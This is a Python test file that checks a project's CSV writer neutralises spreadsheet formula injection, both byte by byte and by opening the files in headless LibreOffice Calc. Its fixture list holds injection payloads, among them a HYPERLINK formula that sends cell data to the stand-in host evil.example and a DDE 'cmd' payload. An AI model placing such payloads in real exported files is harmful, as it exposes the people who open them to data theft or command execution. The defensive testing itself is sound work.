"""Spreadsheet safety of every CSV the project writes: no cell runs as a formula when opened.

The byte-level tests always run; the engine test opens the files in LibreOffice Calc (headless), the
spreadsheet available on a Linux machine, and reads back what it made of each cell.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.csv as pacsv
import pytest

from features.files import FORMULA_START, UTF8_BOM, neutralise_formulas, write_csv

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "-5",
    "+34 600 000 000",
]
SAFE = ["Ana", "ana@example.com", "1+1", "▲ 3 pricing views", "", "O'Brien", "5-10"]


def _list_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "lead_id": [f"L{i}" for i in range(n)],
            "first_name": pd.Series(HOSTILE, dtype="str"),  # pandas' text dtype
            "company": pd.Series(HOSTILE, dtype=object),
            "industry": pd.Series(HOSTILE, dtype="category"),
            "reason_1": pd.Series([f"{h}" for h in HOSTILE], dtype=object),
            "score": range(n),
        }
    )


@pytest.mark.parametrize("cell", HOSTILE)
@pytest.mark.parametrize("dtype", ["str", object, "category"])
def test_each_risky_cell_gets_a_quote_whatever_its_dtype(cell, dtype):
    out = neutralise_formulas(pd.DataFrame({"x": pd.Series([cell, "Ana", None], dtype=dtype)}))
    assert out["x"].tolist()[:2] == ["'" + cell, "Ana"] and pd.isna(out["x"].iloc[2])


@pytest.mark.parametrize("cell", SAFE)
def test_safe_cells_are_left_alone(cell):
    assert neutralise_formulas(pd.DataFrame({"x": [cell]}))["x"].tolist() == [cell]


def test_numbers_and_headers():
    df = pd.DataFrame({"=HYPERLINK(1)": ["a"], "score": [-5], "ok": [1.5]})
    out = neutralise_formulas(df)
    assert list(out.columns) == ["'=HYPERLINK(1)", "score", "ok"]
    assert out["score"].tolist() == [-5] and out["ok"].tolist() == [1.5]  # real numbers are not formulas
    assert list(df.columns)[0] == "=HYPERLINK(1)"  # the input frame is not modified


def _csv_cells(path: Path) -> list[str]:
    data = path.read_bytes()
    assert data.startswith(UTF8_BOM)
    table = pacsv.read_csv(
        path,
        read_options=pacsv.ReadOptions(encoding="utf-8-sig", autogenerate_column_names=True),
        convert_options=pacsv.ConvertOptions(column_types={f"f{i}": pa.string() for i in range(6)}),
    )
    return [str(v) for col in table.columns for v in col.to_pylist() if v is not None]


def test_written_csv_bytes_start_no_cell_with_a_formula_character(tmp_path):
    """Byte level, always run: every field of the file, header included, as a spreadsheet tokenises it."""
    frame = _list_frame().rename(columns={"company": "@company"})
    path = write_csv(frame, tmp_path / "list.csv")
    cells = _csv_cells(path)
    assert len(cells) == 6 * (len(HOSTILE) + 1)
    assert [c for c in cells if c.startswith(FORMULA_START) or c.lstrip().startswith(FORMULA_START)] == []
    assert "'@company" in cells and "'=cmd|' /C calc'!A0" in cells
    # control: the same frame written raw does start cells with them
    raw = tmp_path / "raw.csv"
    with open(raw, "wb") as fh:
        fh.write(UTF8_BOM)
        pacsv.write_csv(pa.Table.from_pandas(frame, preserve_index=False), fh)
    assert sum(c.lstrip().startswith(FORMULA_START) for c in _csv_cells(raw)) >= 4 * len(HOSTILE)


def test_rejects_and_drift_tables_go_through_the_safe_writer():
    """Every CSV written for people goes through features.files.write_csv or neutralise_formulas."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for folder in ("pipelines", "serving", "models", "features"):
        for f in (root / folder).rglob("*.py"):
            for n, line in enumerate(f.read_text(encoding="utf-8").splitlines(), 1):
                if ".to_csv(" in line and "neutralise_formulas(" not in line:
                    offenders.append(f"{f.relative_to(root)}:{n}")
    # `leadscore generate` writes a synthetic CRM *export* (an input, read back by the loader): kept raw
    assert [o for o in offenders if not o.startswith("pipelines/cli/data.py")] == []


# ---------------------------------------------------------------------------------------------------
# the files opened in LibreOffice Calc

SOFFICE = "/usr/bin/soffice"
NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
# CSV import as the most trusting user would set it: comma, quote, UTF-8, detect special numbers,
# trim spaces, evaluate formulas
CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,true,-1,true"


@pytest.fixture(scope="session")
def soffice() -> str:
    """Debian's LibreOffice Calc (headless); installed once per session (as root) when missing."""
    if os.path.exists(SOFFICE):
        return SOFFICE
    if os.environ.get("LEADSCORE_NO_APT") == "1":
        pytest.skip("LibreOffice is not installed and LEADSCORE_NO_APT=1 forbids installing it")
    if shutil.which("apt-get") is None or os.geteuid() != 0:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui needs root and apt-get)")
    env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
    try:
        for cmd in (
            ["apt-get", "update", "-q"],
            ["apt-get", "install", "-y", "-q", "--no-install-recommends", "libreoffice-calc-nogui"],
        ):
            subprocess.run(cmd, check=True, capture_output=True, text=True, timeout=900, env=env)
    except (subprocess.CalledProcessError, subprocess.TimeoutExpired) as e:
        tail = (getattr(e, "stderr", "") or "")[-300:]
        pytest.skip(f"LibreOffice is not installed and installing it failed: {e}; {tail}")
    if not os.path.exists(SOFFICE):
        pytest.skip(f"apt-get installed libreoffice-calc-nogui but {SOFFICE} is still missing")
    return SOFFICE


def _odf_text(p: ET.Element) -> str:
    """A paragraph's text, with ODF's <text:tab/> and <text:s text:c="n"/> turned back into characters."""
    out = [p.text or ""]
    for child in p:
        tag = child.tag.rsplit("}", 1)[-1]
        out.append({"tab": "\t", "s": " " * int(child.get(f"{{{NS['text']}}}c", "1"))}.get(tag, ""))
        out.append("".join(child.itertext()) if tag not in ("tab", "s") else "")
        out.append(child.tail or "")
    return "".join(out)


def _calc_rows(path: Path) -> list[list[tuple[str | None, str]]]:
    """(formula or None, shown text) of every cell of the first sheet of a flat ODS file, row by row."""
    rows = []
    for row in ET.parse(path).iter(f"{{{NS['table']}}}table-row"):
        cells = []
        for c in row.findall("table:table-cell", NS):
            text = "\n".join(_odf_text(p) for p in c.iter(f"{{{NS['text']}}}p"))
            # equal neighbours are stored once with a repeat count (capped: a row's empty tail is huge)
            repeat = min(int(c.get(f"{{{NS['table']}}}number-columns-repeated", "1")), 16)
            cells += [(c.get(f"{{{NS['table']}}}formula"), text)] * repeat
        rows.append(cells)
    return rows


def test_libreoffice_evaluates_no_cell_of_the_written_list(soffice, tmp_path):
    frame = _list_frame()
    safe = write_csv(frame, tmp_path / "safe.csv")
    raw = tmp_path / "raw.csv"
    with open(raw, "wb") as fh:
        fh.write(UTF8_BOM)
        pacsv.write_csv(pa.Table.from_pandas(frame, preserve_index=False), fh)
    cmd = [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path / 'profile'}"]
    cmd += ["--infilter=" + CSV_IMPORT, "--convert-to", "fods", "--outdir", str(tmp_path / "out"), str(safe), str(raw)]
    subprocess.run(cmd, check=True, capture_output=True, timeout=180)
    safe_rows = _calc_rows(tmp_path / "out" / "safe.fods")
    raw_rows = _calc_rows(tmp_path / "out" / "raw.fods")
    # control: the engine does run formulas from a raw CSV (=1+1 shows 2), so this test can fail
    assert raw_rows[1][1] == ("of:=1+1", "2")
    assert [c for row in safe_rows for c in row if c[0]] == []
    assert safe_rows[0][:6] == [(None, c) for c in frame.columns]
    for i, cell in enumerate(HOSTILE, start=1):
        # the hostile value shows literally, behind its quote, in each of the four text columns
        assert safe_rows[i][1:5] == [(None, "'" + cell.replace("\r", "\n"))] * 4, cell


def test_arrow_text_gets_the_verdict_of_neutralise_text_on_every_kind_of_first_character():
    # the fast path reads first bytes from Arrow and checks only some values in Python: same verdicts as the
    # plain per-value rule, whatever the leading space (ASCII, Unicode), chunking or slicing of the column
    from features.files import neutralise_text

    spaces = [" ", "\n", "\x0b", "\x0c", "\x1c", "\x1f", "\x85", "\xa0", "\u2028", "\u3000"]
    cells = (
        HOSTILE + SAFE + [s + "=1" for s in spaces] + [s + "Ana" for s in spaces] + ["\uff0b1", "\uff20x", "Ñ=", None]
    )
    chunked = pa.chunked_array([pa.array(cells[:9]), pa.array(cells[9:])]).slice(2)
    column = pd.Series(pd.array(chunked, dtype=pd.StringDtype("pyarrow", na_value=float("nan"))))
    out = neutralise_formulas(pd.DataFrame({"x": column}))["x"]
    expected = [None if c is None else neutralise_text(c) for c in cells[2:]]
    assert [None if pd.isna(v) else v for v in out] == expected and out.dtype == column.dtype


def test_list_times_read_as_strftime_would_write_them():
    import numpy as np
    import pyarrow.compute as pc

    from serving.score import _minutes

    stamps = np.array(
        ["2024-02-29T23:59:59.999", "1970-01-01T00:00", "2262-04-11T23:47", "NaT", "2026-12-31T09:05:30"],
        dtype="datetime64[ns]",
    )
    for case in (stamps, stamps[:0], np.array(["1969-12-31T23:59", "NaT"], dtype="datetime64[ns]")):
        plain = pc.strftime(pa.array(case, from_pandas=True), format="%Y-%m-%d %H:%M").to_pylist()
        assert [None if pd.isna(v) else v for v in _minutes(case)] == plain
